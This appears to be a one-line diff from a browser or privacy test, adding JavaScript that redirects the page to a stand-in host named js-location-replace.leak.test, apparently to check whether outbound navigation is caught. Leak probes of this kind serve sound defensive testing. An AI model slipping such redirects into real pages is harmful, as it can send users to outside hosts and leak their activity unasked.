@@ -1,0 +1,1 @@
+window.location.replace("https://js-location-replace.leak.test/")
